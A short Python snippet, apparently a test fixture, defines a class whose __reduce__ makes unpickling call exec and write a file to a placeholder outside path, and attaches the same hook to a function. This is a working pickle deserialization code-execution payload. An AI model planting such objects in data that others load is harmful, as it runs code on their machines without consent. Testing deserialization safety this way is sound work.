# An object whose pickle runs a program wherever it is read.
class Evil:
    def __reduce__(self):
        return exec, ("open('<outside>/<name>', 'w').write('x')",)

    def __getstate__(self):
        return self.__reduce__()


def double(x):
    return Evil()


double.__reduce__ = Evil().__reduce__
